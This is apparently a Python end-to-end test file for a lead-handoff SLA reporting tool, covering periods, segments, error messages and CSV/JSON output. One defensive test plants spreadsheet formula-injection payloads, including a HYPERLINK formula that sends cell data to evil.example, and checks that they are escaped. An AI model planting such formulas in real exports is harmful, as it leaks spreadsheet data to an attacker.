"""`handoff report` as a script runs it: text, JSON and CSV from the database, charts as PNG,
and a clear answer for a bad week or segment."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import subprocess
from pathlib import Path

from tests.conftest import ROOT
from tests.e2e.test_cli import HANDOFF, clean_env, run


def imported(tmp_path: Path) -> dict[str, str]:
    env = clean_env(
        DATABASE_URL=f"sqlite+aiosqlite:///{tmp_path / 'h.db'}",
        HANDOFF_SLA_FILE=str(ROOT / "sla.yaml"),
    )
    fixture = ROOT / "tests" / "fixtures" / "hubspot_export.csv"
    # Exit 1: the export holds one row with a bad email on purpose (its test: test_cli.py)
    assert run("import", str(fixture), "--no-progress", env=env).returncode == 1
    return env


def test_report_help_names_every_period_form_and_a_range_works(tmp_path: Path) -> None:
    wide = clean_env(COLUMNS="400")  # argparse wraps at hyphens: last-|month
    shown = " ".join(run("report", "--help", env=wide).stdout.split())
    for form in ("this-week", "last-month", "YYYY-Www", "YYYY-MM", "YYYY-Qn"):
        assert form in shown, shown
    assert "YYYY-MM-DD..YYYY-MM-DD" in shown, shown
    env = imported(tmp_path)  # created 16–21 Nov 2026
    result = run("report", "--period", "2026-11-16..2026-11-22", "--format", "json", env=env)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["received"] == 7


def test_report_as_json_counts_the_imported_week(tmp_path: Path) -> None:
    env = imported(tmp_path)  # created 16–21 Nov 2026: ISO week 47
    result = run("report", "--week", "2026-W47", "--format", "json", env=env)
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["received"] == 7 and report["in_progress"] is False  # 7 new rows imported
    headline = {kpi["key"]: kpi for kpi in report["headline"]}
    # The shipped MQL definition (seed 000's) leaves row 10236 in nurture: 3,200 employees and
    # a Head of RevOps (35), a benchmark report that is not the enterprise ebook, no pricing visit.
    assert headline["mql"]["value"] == 4 == report["conversion"]["mql"]
    assert report["conversion"]["posted"] == 0  # no server has posted them yet
    assert headline["acceptance"]["value"] is None  # so there is no MQL → SAL to measure
    assert headline["completeness"]["detail"] == "7 of 7"


def test_report_as_csv_and_text_with_charts(tmp_path: Path) -> None:
    env = imported(tmp_path)
    result = run(
        "report", "--week", "2026-W47", "--format", "csv", "--segment", "enterprise", env=env
    )
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows[0]["section"] == "headline" and rows[0]["name"] == "enterprise"
    chart = tmp_path / "week.png"
    result = run("report", "--week", "2026-W40", "--chart", str(chart), env=env)
    assert result.returncode == 0, result.stderr
    assert "No leads this week." in result.stdout
    assert chart.read_bytes().startswith(b"\x89PNG")
    assert (tmp_path / "week-compliance.png").read_bytes().startswith(b"\x89PNG")


def test_a_bad_week_or_segment_is_explained(tmp_path: Path) -> None:
    env = imported(tmp_path)
    result = run("report", "--week", "2026-W99", env=env)
    assert result.returncode == 2 and "2026 has no week 99" in result.stderr
    result = run("report", "--segment", "emea", env=env)
    assert result.returncode == 2 and "'emea' is not a segment of the SLA" in result.stderr
    assert "Traceback" not in result.stderr


def test_the_segment_is_named_as_sla_report_takes_it(tmp_path: Path) -> None:
    """`--segment` takes a segment as `/sla-report` does (docs/reports.md): as the SLA spells it
    or as reports show it, in any case (`SMB`, `mid market`), not only the SLA's exact key."""
    env = imported(tmp_path)
    names = [("SMB", "smb"), ("mid market", "mid_market"), ("Enterprise", "enterprise")]
    for named, segment in names:
        result = run("report", "--week", "2026-W47", "--format=json", "--segment", named, env=env)
        assert result.returncode == 0, result.stderr
        assert json.loads(result.stdout)["segment"] == segment


def test_report_for_a_quarter(tmp_path: Path) -> None:
    env = imported(tmp_path)  # all in November 2026: the fourth quarter
    result = run("report", "--period", "2026-Q4", "--format", "json", env=env)
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["period"] == "2026-Q4" and report["previous_period"] == "2026-Q3"
    assert report["received"] == 7
    assert {kpi["key"]: kpi for kpi in report["headline"]}["mql"]["value"] == 4
    result = run("report", "--week", "2026-Q4", "--segment", "enterprise", env=env)
    assert result.returncode == 0, result.stderr  # the old option takes the new words too
    assert result.stdout.startswith("SLA report 2026-Q4 (Oct – Dec 2026), segment enterprise")
    assert "MQLs vs quarterly target: enterprise" in result.stdout
    result = run("report", "--period", "2099-Q1", env=env)
    assert (
        result.returncode == 2 and "2099-Q1 (Jan – Mar 2099) has not started yet" in result.stderr
    )
    assert "Traceback" not in result.stderr


def test_a_report_from_the_wrong_folder_says_there_is_no_database(tmp_path: Path) -> None:
    """Run where no database is: one line naming it, not an all-zero report and a new file."""
    env = clean_env(HANDOFF_SLA_FILE=str(ROOT / "sla.yaml"))
    for command in (["report"], ["plan", "2M"]):
        result = run(*command, env=env, cwd=tmp_path)
        assert result.returncode == 2, result.stderr
        assert "there is no Handoff database at ./handoff.db" in result.stderr
    assert list(tmp_path.iterdir()) == []  # nothing was created


def test_a_database_that_cannot_be_opened_is_one_line(tmp_path: Path) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path}/missing/folder/h.db"
    result = run("db", "upgrade", env=clean_env(DATABASE_URL=url), cwd=tmp_path)
    said = result.stderr.strip().splitlines()
    assert result.returncode == 2 and len(said) == 1, result.stderr
    assert said[0] == (
        f"handoff: DATABASE_URL names a SQLite file in {tmp_path}/missing/folder, a folder that "
        "is not there: create it, or name another"
    )
    # A file that exists but is no database: one line too.
    (tmp_path / "notes.db").write_text("not a database")
    url = f"sqlite+aiosqlite:///{tmp_path}/notes.db"
    result = run("db", "upgrade", env=clean_env(DATABASE_URL=url), cwd=tmp_path)
    assert result.returncode == 2 and "could not be used" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr


def test_a_chart_in_a_missing_folder_is_one_line_before_the_report(tmp_path: Path) -> None:
    env = imported(tmp_path)
    result = run("report", "--period", "2026-11", "--chart", f"{tmp_path}/nope/c.png", env=env)
    assert result.returncode == 2 and result.stdout == ""  # said before the report is built
    assert result.stderr.strip() == (
        f"handoff: --chart {tmp_path}/nope/c.png: its folder {tmp_path}/nope is not there"
    )


def test_the_text_report_names_reps_slack_knows(tmp_path: Path) -> None:
    """By rep, a rep Slack described to the server reads `@maya (U0REP1)`; one it never did
    keeps the id; JSON keeps ids alone (a machine's key)."""
    env = imported(tmp_path)
    with sqlite3.connect(tmp_path / "h.db") as database:
        first, second = [row[0] for row in database.execute("SELECT id FROM leads LIMIT 2")]
        database.execute("UPDATE leads SET owner = 'U0REP1' WHERE id = ?", (first,))
        database.execute("UPDATE leads SET owner = 'U0REP2' WHERE id = ?", (second,))
        database.execute(
            "INSERT INTO people (user_id, display_name, checked_at) "
            "VALUES ('U0REP1', 'maya', '2026-11-20 09:00:00.000000')"
        )
    result = run("report", "--week", "2026-W47", env=env)
    assert result.returncode == 0, result.stderr
    by_rep = result.stdout.split("By rep:\n", 1)[1].splitlines()
    assert any(line.startswith("  @maya (U0REP1): 1 lead;") for line in by_rep), by_rep
    assert any(line.startswith("  U0REP2: 1 lead;") for line in by_rep), by_rep
    result = run("report", "--week", "2026-W47", "--format", "json", env=env)
    names = [piece["name"] for piece in json.loads(result.stdout)["by_rep"]]
    assert "U0REP1" in names and "U0REP2" in names


def test_the_text_report_names_a_campaigns_source_as_its_sources_are_named(
    tmp_path: Path,
) -> None:
    """`By campaign` writes a campaign's source as `By source` and the Campaign table above it
    do (`paid search · google`), not as its key (`paid_search · google`); the campaign's own
    name is kept as written."""
    env = imported(tmp_path)
    result = run("report", "--week", "2026-W47", env=env)
    assert result.returncode == 0, result.stderr
    by_campaign = result.stdout.split("By campaign:\n", 1)[1].split("By rep:\n", 1)[0]
    assert "  paid search · google: " in by_campaign, by_campaign
    assert "paid_search" not in result.stdout, result.stdout


def test_csv_cells_from_web_forms_are_never_formulas(tmp_path: Path) -> None:
    """A source or campaign a web form sent (utm_source=…) that starts with =, +, -, @, a tab or
    a carriage return reads as text in a spreadsheet: OWASP's CSV Injection page asks for such
    cells to be prefixed with a single quote. Numbers stay numbers, a minus sign included."""
    env = imported(tmp_path)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)", "+1-2", "\t=1+1"]
    with sqlite3.connect(tmp_path / "h.db") as database:
        ids = [row[0] for row in database.execute("SELECT id FROM leads ORDER BY id LIMIT 4")]
        for lead_id, text in zip(ids, hostile, strict=True):
            database.execute("UPDATE leads SET source = ? WHERE id = ?", (text, lead_id))
    result = run("report", "--week", "2026-W47", "--format", "csv", env=env)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout.lstrip("\ufeff"))))
    names = {row["name"] for row in rows if row["section"] == "source"}
    assert {"'" + text for text in hostile} <= names, names
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            if cell.startswith("-"):
                float(cell)  # a negative number, never text that starts with a minus


def csv_bytes(env: dict[str, str]) -> bytes:
    """The CSV report exactly as `handoff report --format csv > week.csv` writes it."""
    command = [*HANDOFF, "report", "--week", "2026-W47", "--format", "csv"]
    result = subprocess.run(command, capture_output=True, env=env, cwd=ROOT, timeout=120)
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_csv_records_end_with_crlf_and_nothing_follows_the_last(tmp_path: Path) -> None:
    """RFC 4180: each record ends with CRLF (the last one may), so a reader sees no empty
    record after the last line and no bare line feed."""
    raw = csv_bytes(imported(tmp_path))
    records = raw.split(b"\r\n")
    assert records[-1] == b"", raw[-20:]  # the last record's CRLF, then the end of the file
    assert not any(b"\n" in record for record in records)
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert [] not in rows and len(rows) == raw.count(b"\r\n")


def test_csv_is_utf8_with_a_bom_so_excel_reads_campaign_names(tmp_path: Path) -> None:
    """Excel reads a CSV without a byte-order mark in the PC's code page: 'paid_search · google'
    showed as 'paid_search Â· google'. The file starts with the UTF-8 BOM (what Excel's own
    'CSV UTF-8' writes) and is UTF-8 whatever the encoding of the terminal's output."""
    env = imported(tmp_path)
    raw = csv_bytes(env)
    assert raw.startswith(b"\xef\xbb\xbfperiod,section,"), raw[:20]
    assert "\r\n2026-W47,campaign,paid_search · google," in raw.decode("utf-8-sig")
    assert csv_bytes({**env, "PYTHONIOENCODING": "cp1252"}) == raw  # a Windows console's


def test_csv_says_each_numbers_unit_and_its_columns_are_documented(tmp_path: Path) -> None:
    """A target of 120 is minutes, 0.9 a share: the CSV says which in a unit column, as the
    JSON does, and docs/reports.md names every column of the CSV, in the file's order (a
    script that reads the columns by position follows the docs: they had `previous` before
    `rag`)."""
    raw = csv_bytes(imported(tmp_path))
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    headline = {row["kpi"]: row for row in rows if row["section"] == "headline"}
    assert headline["response_mean"]["target"] == "120"
    assert headline["response_mean"]["unit"] == "minutes"
    assert headline["acceptance"]["unit"] == "share" and headline["mql"]["unit"] == "count"
    assert all(row["unit"] for row in rows), [row for row in rows if not row["unit"]]
    docs = (ROOT / "docs" / "reports.md").read_text(encoding="utf-8")
    section = docs.split("## `handoff report`", 1)[1].split("\n## ", 1)[0]
    for column in rows[0]:
        assert f"`{column}`" in section, column
    columns = section.split("these columns:", 1)[1].split("Records end", 1)[0]
    named = [name for name in re.findall(r"`([a-z_]+)`", columns) if name in rows[0]]
    assert list(dict.fromkeys(named)) == list(rows[0])
